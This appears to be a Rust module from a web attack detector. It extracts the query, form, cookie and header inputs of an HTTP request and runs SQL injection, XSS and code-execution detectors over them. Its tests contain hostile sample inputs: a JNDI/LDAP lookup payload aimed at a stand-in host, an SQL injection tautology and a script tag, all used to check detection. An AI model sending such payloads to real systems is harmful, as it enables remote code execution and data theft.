//! The inputs of an HTTP request an attacker controls, and one call that
//! runs the content detectors over all of them.
//!
//! Inputs, in this order, at most [`MAX_INPUTS`] of them:
//! - the URI path (raw; [`rce`] and [`xss`] only: traversal, commands);
//! - query parameters, name and value, percent-decoded with `+` as space;
//! - the body's parameters when `Content-Type` is
//!   `application/x-www-form-urlencoded` (at most [`MAX_BODY`] bytes read);
//! - cookies from `Cookie` headers (percent-decoded, no `+`);
//! - the values of `User-Agent`, `Referer`, `X-Forwarded-For` and every
//!   `X-*` header (raw; for `Referer` [`sqli`] looks at its query
//!   parameters, not the whole URL).
//!
//! Each input gets at most one finding, from the first detector that fires
//! in the order [`rce`], [`xss`], [`sqli`] (most specific first).

use super::{percent_decode, rce, sqli, xss, MAX_INPUT};

/// Inputs taken from one request.
pub const MAX_INPUTS: usize = 128;

/// Body bytes parsed for form parameters.
pub const MAX_BODY: usize = 64 * 1024;

/// Bytes of an input's name kept.
pub const MAX_NAME: usize = 64;

/// Where an input was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum InputSource {
    /// The URI: its path, or a query parameter.
    Uri,
    /// A form parameter of the body.
    Body,
    /// A header value.
    Header,
    /// A cookie.
    Cookie,
}

/// One input to inspect.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Input {
    /// Where it comes from.
    pub source: InputSource,
    /// Parameter, cookie or header name (lower-cased for headers; empty for
    /// the path), at most [`MAX_NAME`] bytes, lossy UTF-8.
    pub name: String,
    /// The value (decoded for parameters and cookies, raw otherwise), at
    /// most [`MAX_INPUT`] bytes.
    pub value: Vec<u8>,
    /// Whether [`sqli`] should look at it (not the path nor a whole URL).
    pub sql: bool,
}

impl Input {
    /// `uri`, `body`, `cookie` or `header:<name>`, as alerts name it.
    pub fn location(&self) -> String {
        match self.source {
            InputSource::Uri => "uri".into(),
            InputSource::Body => "body".into(),
            InputSource::Cookie => "cookie".into(),
            InputSource::Header => format!("header:{}", self.name),
        }
    }
}

/// A request as the detectors need it, borrowed from the HTTP parser.
#[derive(Debug, Clone, Copy)]
pub struct RequestView<'a> {
    /// The request target (`/path?query`), raw.
    pub uri: &'a [u8],
    /// Header (name, value) pairs in order.
    pub headers: &'a [(&'a [u8], &'a [u8])],
    /// The body, decoded from chunking if any.
    pub body: &'a [u8],
}

/// What a detector found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Finding {
    /// SQL injection.
    Sqli(sqli::SqliMatch),
    /// HTML/JS injection.
    Xss(xss::XssMatch),
    /// Code execution, traversal, deserialization.
    Rce(rce::RceMatch),
}

/// A finding and the input it was found in.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InputMatch {
    /// The input (see [`Input::location`]).
    pub input: Input,
    /// What was found.
    pub finding: Finding,
}

fn name_of(b: &[u8]) -> String {
    String::from_utf8_lossy(&b[..b.len().min(MAX_NAME)]).into_owned()
}

fn cap(v: Vec<u8>) -> Vec<u8> {
    let mut v = v;
    v.truncate(MAX_INPUT);
    v
}

/// Pushes the `name=value` pairs of a form-encoded string.
fn push_params(out: &mut Vec<Input>, source: InputSource, s: &[u8], header: Option<&str>) {
    for pair in s.split(|&b| b == b'&') {
        if out.len() >= MAX_INPUTS {
            return;
        }
        if pair.is_empty() {
            continue;
        }
        let (n, v) = match pair.iter().position(|&b| b == b'=') {
            Some(p) => (&pair[..p], &pair[p + 1..]),
            None => (&pair[..0], pair),
        };
        out.push(Input {
            source,
            name: header.map_or_else(|| name_of(&percent_decode(n, true)), str::to_owned),
            value: cap(percent_decode(v, true)),
            sql: true,
        });
    }
}

fn query_of(uri: &[u8]) -> (&[u8], Option<&[u8]>) {
    let uri = match uri.iter().position(|&b| b == b'#') {
        Some(p) => &uri[..p],
        None => uri,
    };
    match uri.iter().position(|&b| b == b'?') {
        Some(p) => (&uri[..p], Some(&uri[p + 1..])),
        None => (uri, None),
    }
}

/// The inputs of a request (see the module doc), at most [`MAX_INPUTS`].
pub fn inputs(req: &RequestView) -> Vec<Input> {
    let mut out = Vec::new();
    let (path, query) = query_of(req.uri);
    out.push(Input {
        source: InputSource::Uri,
        name: String::new(),
        value: path[..path.len().min(MAX_INPUT)].to_vec(),
        sql: false,
    });
    if let Some(q) = query {
        push_params(&mut out, InputSource::Uri, q, None);
    }
    let form = req.headers.iter().any(|(n, v)| {
        n.eq_ignore_ascii_case(b"content-type")
            && super::contains_ci(v, b"application/x-www-form-urlencoded")
    });
    if form {
        push_params(
            &mut out,
            InputSource::Body,
            &req.body[..req.body.len().min(MAX_BODY)],
            None,
        );
    }
    for (n, v) in req.headers {
        if out.len() >= MAX_INPUTS {
            break;
        }
        if n.eq_ignore_ascii_case(b"cookie") {
            for c in v.split(|&b| b == b';') {
                if out.len() >= MAX_INPUTS {
                    break;
                }
                let c = c.trim_ascii();
                let (cn, cv) = match c.iter().position(|&b| b == b'=') {
                    Some(p) => (&c[..p], &c[p + 1..]),
                    None => (&c[..0], c),
                };
                out.push(Input {
                    source: InputSource::Cookie,
                    name: name_of(cn),
                    value: cap(percent_decode(cv, false)),
                    sql: true,
                });
            }
            continue;
        }
        let lname = n.to_ascii_lowercase();
        let wanted = matches!(&lname[..], b"user-agent" | b"referer" | b"x-forwarded-for")
            || lname.starts_with(b"x-");
        if !wanted {
            continue;
        }
        let referer = lname == b"referer";
        out.push(Input {
            source: InputSource::Header,
            name: name_of(&lname),
            value: v[..v.len().min(MAX_INPUT)].to_vec(),
            sql: !referer,
        });
        if referer {
            if let (_, Some(q)) = query_of(v) {
                push_params(&mut out, InputSource::Header, q, Some("referer"));
            }
        }
    }
    out.truncate(MAX_INPUTS);
    out
}

/// Which inspectors run (their rules are enabled).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Inspectors {
    /// SQL injection.
    pub sqli: bool,
    /// Cross-site scripting.
    pub xss: bool,
    /// Command/code injection.
    pub rce: bool,
}

impl Inspectors {
    /// All of them.
    pub const ALL: Inspectors = Inspectors {
        sqli: true,
        xss: true,
        rce: true,
    };

    /// Whether any runs.
    pub fn any(self) -> bool {
        self.sqli || self.xss || self.rce
    }
}

/// Runs the inspectors `on` over one input: the first finding, if any.
pub fn inspect_input(input: &Input, on: Inspectors) -> Option<Finding> {
    if let Some(m) = on.rce.then(|| rce::in_http_value(&input.value)).flatten() {
        return Some(Finding::Rce(m));
    }
    if let Some(m) = on.xss.then(|| xss::in_http_value(&input.value)).flatten() {
        return Some(Finding::Xss(m));
    }
    if input.sql && on.sqli {
        if let Some(m) = sqli::in_http_value(&input.value) {
            return Some(Finding::Sqli(m));
        }
    }
    None
}

/// Runs the inspectors `on` over every input of a request; at most
/// `max_matches` findings, in input order (pass 1 for the first only).
pub fn inspect_request(req: &RequestView, max_matches: usize, on: Inspectors) -> Vec<InputMatch> {
    let mut out = Vec::new();
    if !on.any() {
        return out;
    }
    for input in inputs(req) {
        if out.len() >= max_matches {
            break;
        }
        if let Some(finding) = inspect_input(&input, on) {
            out.push(InputMatch { input, finding });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn extracts_inputs() {
        let headers: &[(&[u8], &[u8])] = &[
            (b"Host", b"x"),
            (
                b"Content-Type",
                b"application/x-www-form-urlencoded; charset=utf-8",
            ),
            (b"Cookie", b"sid=abc; pref=a%20b"),
            (b"User-Agent", b"curl/8"),
            (b"Referer", b"http://x/?q=1&r=2"),
            (b"X-Api", b"k"),
        ];
        let req = RequestView {
            uri: b"/a/b?x=1+2&y=%27&flag#frag",
            headers,
            body: b"u=admin&p=p%40ss",
        };
        let got: Vec<(String, String, String)> = inputs(&req)
            .into_iter()
            .map(|i| {
                (
                    i.location(),
                    i.name,
                    String::from_utf8_lossy(&i.value).into_owned(),
                )
            })
            .collect();
        let want = [
            ("uri", "", "/a/b"),
            ("uri", "x", "1 2"),
            ("uri", "y", "'"),
            ("uri", "", "flag"),
            ("body", "u", "admin"),
            ("body", "p", "p@ss"),
            ("cookie", "sid", "abc"),
            ("cookie", "pref", "a b"),
            ("header:user-agent", "user-agent", "curl/8"),
            ("header:referer", "referer", "http://x/?q=1&r=2"),
            ("header:referer", "referer", "1"),
            ("header:referer", "referer", "2"),
            ("header:x-api", "x-api", "k"),
        ];
        let want: Vec<(String, String, String)> = want
            .iter()
            .map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
            .collect();
        assert_eq!(got, want);
    }

    #[test]
    fn inspects_a_request() {
        let headers: &[(&[u8], &[u8])] = &[(b"User-Agent", b"${jndi:ldap://x/a}")];
        let req = RequestView {
            uri: b"/s?id=1%27+or+%271%27%3D%271&q=%3Cscript%3E",
            headers,
            body: b"",
        };
        let m = inspect_request(&req, 10, Inspectors::ALL);
        assert_eq!(m.len(), 3);
        assert!(matches!(m[0].finding, Finding::Sqli(_)));
        assert!(matches!(m[1].finding, Finding::Xss(_)));
        assert!(matches!(m[2].finding, Finding::Rce(_)));
        assert_eq!(m[2].input.location(), "header:user-agent");
        assert_eq!(inspect_request(&req, 1, Inspectors::ALL).len(), 1);
        let many = format!("/?{}", "a=1&".repeat(10_000));
        let req = RequestView {
            uri: many.as_bytes(),
            headers: &[],
            body: b"",
        };
        assert_eq!(inputs(&req).len(), MAX_INPUTS);
    }
}
